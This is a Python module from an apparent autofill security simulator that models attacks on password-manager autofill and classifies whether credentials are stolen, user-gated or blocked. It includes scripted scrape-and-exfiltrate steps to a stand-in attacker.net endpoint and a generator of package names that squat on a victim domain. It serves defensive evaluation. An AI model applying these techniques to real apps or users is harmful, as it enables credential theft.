"""Attack scenarios: scene builders, a runner and an outcome classifier.

Every scenario is self-contained: it carries its own vault, apps and
documents, so runs are independent and can be executed in parallel.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass
from enum import Enum
from typing import Any, Iterable

from autofill_sim.association import (
    MappingScheme,
    Platform,
    SchemeKind,
    map_by_heuristic,
    substring_components,
    verify_in_scene,
)
from autofill_sim.errors import AutofillSimError, UnsquattableScheme
from autofill_sim.frameworks import (
    BrowserPage,
    CeremonyLog,
    CheckId,
    FillContext,
    FillMode,
    Gate,
    ManagerProfile,
    NativeUi,
    PolicyId,
    Refusal,
    WebViewInApp,
    bidirectionally_verified,
    run_ceremony,
)
from autofill_sim.model import (
    AppIdentity,
    DomainName,
    Origin,
    Scene,
    UserAgent,
    Vault,
    fingerprint,
    scene_from_dict,
)
from autofill_sim.webdoc import (
    FormRef,
    InjectedBy,
    OutboundRequest,
    PostToBridge,
    ScrapeFields,
    ScriptEvent,
    ScriptPhase,
    load_document,
)

ATTACKER_DOMAIN = "attacker.net"
TRACKER_DOMAIN = "tracker.net"
ATTACKER_KEY = "attacker-key"
BRIDGE_CHANNEL = "callbackHandler"


class AttackKind(str, Enum):
    CROSS_ORIGIN_IFRAME_PHISH = "cross-origin-iframe-phish"
    WEBVIEW_MALICIOUS_PAGE = "webview-malicious-page"
    WEBVIEW_MALICIOUS_APP = "webview-malicious-app"
    NETWORK_INJECTION_HTTP = "network-injection-http"
    NETWORK_INJECTION_BAD_CERT = "network-injection-bad-cert"
    ACTION_REWRITE_STATIC = "action-rewrite-static"
    ACTION_REWRITE_DYNAMIC = "action-rewrite-dynamic"
    GET_METHOD_LEAK = "get-method-leak"
    LOOK_ALIKE_APP = "look-alike-app"
    SIDE_LOADED_IMPERSONATION = "side-loaded-impersonation"
    PACKAGE_NAME_SQUAT_PREFIX = "package-name-squat-prefix"
    PACKAGE_NAME_SQUAT_SUBSTRING = "package-name-squat-substring"
    PACKAGE_NAME_SQUAT_INVERSION = "package-name-squat-inversion"

    @property
    def squat_scheme(self) -> SchemeKind | None:
        return _SQUAT_SCHEMES.get(self)


_SQUAT_SCHEMES = {
    AttackKind.PACKAGE_NAME_SQUAT_PREFIX: SchemeKind.PREFIX,
    AttackKind.PACKAGE_NAME_SQUAT_SUBSTRING: SchemeKind.SUBSTRING,
    AttackKind.PACKAGE_NAME_SQUAT_INVERSION: SchemeKind.PACKAGE_INVERSION,
}


# --- squatting ---------------------------------------------------------------


def squat_generator(scheme: SchemeKind | MappingScheme, victim: DomainName | str) -> AppIdentity:
    """Build an attacker app whose package name the given heuristic maps to `victim`."""
    if isinstance(scheme, MappingScheme):
        scheme = scheme.kind
    victim = DomainName.parse(str(victim))
    site = victim.registrable()
    label = site.labels[0]
    if scheme in (SchemeKind.PREFIX, SchemeKind.PACKAGE_INVERSION):
        if len(site.labels) != 2 or not re.fullmatch(r"[a-z0-9_]+", label):
            raise UnsquattableScheme(
                f"{victim} cannot be written as a two-component package prefix"
            )
        package = f"{site.labels[1]}.{label}.evil"
    elif scheme is SchemeKind.SUBSTRING:
        package = None
        for i in range(len(label) - 2):
            piece = label[i : i + 3]
            if re.fullmatch(r"[a-z0-9]{3}", piece) and piece in substring_components(
                f"com.{piece}.evil"
            ):
                package = f"com.{piece}.evil"
                break
        if package is None:
            raise UnsquattableScheme(f"no usable three-character piece in {label!r}")
    else:
        raise UnsquattableScheme(f"{scheme.value} does not match on package names")
    app = AppIdentity(package, fingerprint(ATTACKER_KEY))
    verdict = map_by_heuristic(MappingScheme(scheme), app, [victim], Vault())
    if not verdict.accepted or victim not in verdict.matched_domains:
        raise UnsquattableScheme(f"{package} does not match {victim} under {scheme.value}")
    return app


# --- scene building ----------------------------------------------------------


def _login_page(action: str = "/login", method: str = "post", scripts: Iterable[dict] = ()) -> dict:
    return {
        "forms": [
            {
                "action": action,
                "method": method,
                "fields": [
                    {"name": "email", "kind": "username"},
                    {"name": "password", "kind": "password"},
                ],
            }
        ],
        "scripts": list(scripts),
    }


def _scrape_and_send(url: str, phase: str = "post-fill") -> list[dict]:
    return [
        {"phase": phase, "do": "scrape", "form": 0},
        {"phase": phase, "do": "exfiltrate", "url": url},
    ]


def victim_names(victim: DomainName) -> dict[str, str]:
    label = victim.registrable().labels[0].replace("-", "_")
    return {
        "label": label,
        "package": f"com.{label}.android",
        "key": f"{label}-release-key",
    }


def base_scene(victim: DomainName) -> dict[str, Any]:
    """Scene dict shared by every scenario: a victim site, its app, an attacker site."""
    names = victim_names(victim)
    v = str(victim)
    apple = {"webcredentials": {"apps": [f"{names['key']}.{names['package']}"]}}
    dal = [
        {
            "relation": ["delegate_permission/common.get_login_creds"],
            "target": {
                "namespace": "android_app",
                "package_name": names["package"],
                "sha256_cert_fingerprints": [fingerprint(names["key"])],
            },
        }
    ]
    return {
        "vault": {
            "credentials": [
                {
                    "id": "victim",
                    "username": f"alice@{v}",
                    "password": f"pw-{names['label']}-5be1",
                    "domain": v,
                },
                {
                    "id": "bystander",
                    "username": "alice",
                    "password": "pw-bystander-09c4",
                    "domain": "example.org",
                },
            ],
            "manual_app_mappings": [],
        },
        "apps": [],
        "domains": {
            v: {
                "documents": {"/login.html": _login_page()},
                "association_files": {
                    "/.well-known/apple-app-site-association": json.dumps(apple),
                    "/.well-known/assetlinks.json": json.dumps(dal),
                },
            },
            "example.org": {"documents": {"/login.html": _login_page()}},
            ATTACKER_DOMAIN: {"documents": {}},
        },
        "user_agent": "always-approve",
    }


def legit_app(victim: DomainName) -> dict[str, Any]:
    names = victim_names(victim)
    return {
        "package_id": names["package"],
        "signing_key": names["key"],
        "entitled_domains": [str(victim)],
        "developer_website": str(victim),
    }


@dataclass(frozen=True)
class Scenario:
    kind: AttackKind
    victim: DomainName
    scene: Scene
    context: FillContext
    victim_credential: str = "victim"


def build_scenario(
    kind: AttackKind | str, victim_domain: DomainName | str = "walmart.com"
) -> Scenario:
    kind = AttackKind(kind)
    victim = DomainName.parse(str(victim_domain))
    v = str(victim)
    data = base_scene(victim)
    domains = data["domains"]
    attacker = f"https://{ATTACKER_DOMAIN}"
    context_url: str | None = None
    target = FormRef((), 0)
    host: dict[str, Any] | None = None
    host_scripts: tuple[ScriptEvent, ...] = ()
    native_app: dict[str, Any] | None = None

    if kind is AttackKind.CROSS_ORIGIN_IFRAME_PHISH:
        # an XSS-able login page framed invisibly by the attacker's page
        domains[v]["documents"]["/login.html"] = _login_page(
            scripts=_scrape_and_send(f"{attacker}/collect")
        )
        domains[ATTACKER_DOMAIN]["documents"]["/index.html"] = {
            "frames": [{"src": f"https://{v}/login.html", "visible": False}]
        }
        context_url = f"{attacker}/index.html"
        target = FormRef((0,), 0)
    elif kind is AttackKind.WEBVIEW_MALICIOUS_PAGE:
        domains[ATTACKER_DOMAIN]["documents"]["/login.html"] = _login_page(
            action=f"{attacker}/collect", scripts=_scrape_and_send(f"{attacker}/beacon")
        )
        host = legit_app(victim)
        data["vault"]["manual_app_mappings"].append({"package_id": host["package_id"], "domain": v})
        context_url = f"{attacker}/login.html"
    elif kind is AttackKind.WEBVIEW_MALICIOUS_APP:
        host = {"package_id": "com.attacker.shopper", "signing_key": ATTACKER_KEY}
        host_scripts = (
            ScriptEvent(ScriptPhase.POST_FILL, ScrapeFields(0), InjectedBy.HOST_APP),
            ScriptEvent(ScriptPhase.POST_FILL, PostToBridge(BRIDGE_CHANNEL), InjectedBy.HOST_APP),
        )
        context_url = f"https://{v}/login.html"
    elif kind is AttackKind.NETWORK_INJECTION_HTTP:
        domains[v]["documents"]["/login.html"] = _login_page(
            scripts=_scrape_and_send(f"{attacker}/collect")
        )
        context_url = f"http://{v}/login.html"
    elif kind is AttackKind.NETWORK_INJECTION_BAD_CERT:
        domains[v]["documents"]["/login.html"] = _login_page(
            scripts=_scrape_and_send(f"{attacker}/collect")
        )
        domains[v]["certificate"] = {
            "valid": False,
            "reason": "certificate presented by an on-path attacker",
        }
        context_url = f"https://{v}/login.html"
    elif kind is AttackKind.ACTION_REWRITE_STATIC:
        domains[v]["documents"]["/login.html"] = _login_page(action=f"{attacker}/collect")
        context_url = f"https://{v}/login.html"
    elif kind is AttackKind.ACTION_REWRITE_DYNAMIC:
        domains[v]["documents"]["/login.html"] = _login_page(
            scripts=[
                {
                    "phase": "pre-fill",
                    "do": "rewrite-action",
                    "form": 0,
                    "url": f"{attacker}/collect",
                }
            ]
        )
        context_url = f"https://{v}/login.html"
    elif kind is AttackKind.GET_METHOD_LEAK:
        # the landing page embeds third-party content that receives the full URL as Referer
        domains[v]["documents"]["/login.html"] = _login_page(method="get")
        domains[v]["documents"]["/login"] = {
            "frames": [{"src": f"https://{TRACKER_DOMAIN}/ad.html"}]
        }
        domains[TRACKER_DOMAIN] = {"documents": {"/ad.html": {}}}
        context_url = f"https://{v}/login.html"
    elif kind is AttackKind.LOOK_ALIKE_APP:
        native_app = dict(legit_app(victim), signing_key=ATTACKER_KEY)
    elif kind is AttackKind.SIDE_LOADED_IMPERSONATION:
        native_app = {"package_id": victim_names(victim)["package"], "signing_key": ATTACKER_KEY}
    else:
        squat = squat_generator(kind.squat_scheme, victim)
        native_app = {
            "package_id": squat.package_id,
            "signing_fingerprint": squat.signing_fingerprint,
        }

    for app in (host, native_app):
        if app is not None:
            data["apps"].append(app)
    scene = scene_from_dict(data)

    if native_app is not None:
        ctx = FillContext(NativeUi(scene.app(native_app["package_id"]), requested_domain=victim))
    else:
        doc = load_document(scene, scene.resolve_url(context_url))
        if host is not None:
            ctx = FillContext(
                WebViewInApp(scene.app(host["package_id"]), doc, host_scripts), target
            )
        else:
            ctx = FillContext(BrowserPage(doc), target)
    return Scenario(kind, victim, scene, ctx)


# --- outcome classification --------------------------------------------------


class OutcomeKind(str, Enum):
    STOLEN = "stolen"
    USER_GATED = "user-gated"
    BLOCKED = "blocked"


@dataclass(frozen=True)
class Capture:
    """A value that reached a destination outside the page/app that filled it."""

    destination: Origin | AppIdentity
    channel: str
    values: tuple[str, ...]

    def destination_label(self) -> str:
        return str(self.destination)


@dataclass(frozen=True)
class Theft:
    credential_id: str
    captured_by: str
    channel: str


@dataclass(frozen=True)
class AttackOutcome:
    result: OutcomeKind
    then: OutcomeKind | None = None  # for USER_GATED: STOLEN, or None meaning safe
    thefts: tuple[Theft, ...] = ()
    reason: str | None = None

    @property
    def stolen(self) -> bool:
        return bool(self.thefts)

    @property
    def label(self) -> str:
        if self.result is OutcomeKind.BLOCKED:
            return f"Blocked({self.reason})"
        if self.result is OutcomeKind.STOLEN:
            return "Stolen"
        return "UserGated→Stolen" if self.then is OutcomeKind.STOLEN else "UserGated→Safe"


def captures(log: CeremonyLog, scene: Scene) -> list[Capture]:
    """Every value that left the filled page or app, with where it went."""
    out: list[Capture] = []
    ctx = log.context
    if isinstance(ctx.kind, NativeUi):
        if log.filled.native_values:
            out.append(
                Capture(ctx.kind.app, "native-fill", tuple(log.filled.native_values.values()))
            )
        return out
    for ex in log.exfiltrations:
        values = tuple(v for _, v in ex.values)
        if ex.channel is not None:
            out.append(Capture(ctx.kind.host, "bridge", values))
        else:
            out.append(Capture(ex.destination.origin, "script", values))
    req = log.request
    if req is not None:
        out.append(Capture(req.destination.origin, "request", tuple(req.all_values())))
        if req.url_params:
            out.extend(_referrer_leaks(scene, req))
    return out


def _referrer_leaks(scene: Scene, req: OutboundRequest) -> list[Capture]:
    try:
        landing = load_document(scene, req.destination)
    except AutofillSimError:
        return []
    values = tuple(req.url_params.values())
    return [
        Capture(fr.origin, "referrer", values)
        for fr in landing.frames
        if not fr.origin.domain.same_site(req.destination.origin.domain, scene.suffixes)
    ]


def _mapped(scene: Scene, destination: Origin | AppIdentity, domain: DomainName) -> bool:
    if isinstance(destination, AppIdentity):
        return bidirectionally_verified(scene, destination, domain)
    return destination.domain.same_site(domain, scene.suffixes)


def find_thefts(log: CeremonyLog, scene: Scene) -> list[Theft]:
    thefts = []
    for cap in captures(log, scene):
        for cred in scene.vault.credentials:
            if not cred.password or not any(cred.password in v for v in cap.values):
                continue
            if not _mapped(scene, cap.destination, cred.mapped_domain):
                thefts.append(Theft(cred.id, cap.destination_label(), cap.channel))
    return sorted(set(thefts), key=lambda t: (t.credential_id, t.channel, t.captured_by))


def classify(log: CeremonyLog, scenario: Scenario) -> AttackOutcome:
    scene = scenario.scene
    thefts = tuple(find_thefts(log, scene))
    gated = log.decision.gate is Gate.USER_GATE_REQUIRED and bool(log.decision.offered)
    if thefts:
        if gated:
            return AttackOutcome(OutcomeKind.USER_GATED, OutcomeKind.STOLEN, thefts)
        return AttackOutcome(OutcomeKind.STOLEN, None, thefts)
    if not log.decision.offered:
        return AttackOutcome(OutcomeKind.BLOCKED, reason=_empty_offer_reason(log, scenario))
    if not log.filled.approved:
        return AttackOutcome(OutcomeKind.USER_GATED, None)
    if isinstance(log.transmission, Refusal) and log.transmission.reason is not None:
        return AttackOutcome(OutcomeKind.BLOCKED, reason=log.transmission.reason.value)
    if log.decision.fill_mode is FillMode.ON_TRANSMISSION:
        return AttackOutcome(OutcomeKind.BLOCKED, reason=CheckId.FILL_ON_TRANSMISSION.value)
    return AttackOutcome(OutcomeKind.BLOCKED, reason="no-capture")


def _empty_offer_reason(log: CeremonyLog, scenario: Scenario) -> str:
    if log.decision.refused_by is not None:
        return log.decision.refused_by.value
    ctx = log.context
    if isinstance(ctx.kind, NativeUi):
        if log.decision.policy in (PolicyId.PASSWORD_AUTOFILL, PolicyId.SECURE):
            verdict = verify_in_scene(scenario.scene, ctx.kind.app, scenario.victim, Platform.APPLE)
            return verdict.reasons[0] if verdict.reasons else "not-verified"
        return "app-not-mapped"
    return CheckId.DOMAIN_MAPPING.value


def run_attack(
    kind: AttackKind | str,
    policy: PolicyId | str,
    manager: ManagerProfile | None = None,
    user: UserAgent | str = UserAgent.ALWAYS_APPROVE,
    victim: DomainName | str = "walmart.com",
) -> AttackOutcome:
    scenario = build_scenario(kind, victim)
    log = run_ceremony(policy, manager, scenario.context, scenario.scene, UserAgent(user))
    return classify(log, scenario)


def run_staggered(
    kind: AttackKind | str,
    policy: PolicyId | str,
    victims: Iterable[DomainName | str],
    manager: ManagerProfile | None = None,
    user: UserAgent | str = UserAgent.ALWAYS_APPROVE,
) -> list[AttackOutcome]:
    """Long-running phishing: one single-credential attack per victim, in sequence."""
    return [run_attack(kind, policy, manager, user, v) for v in victims]
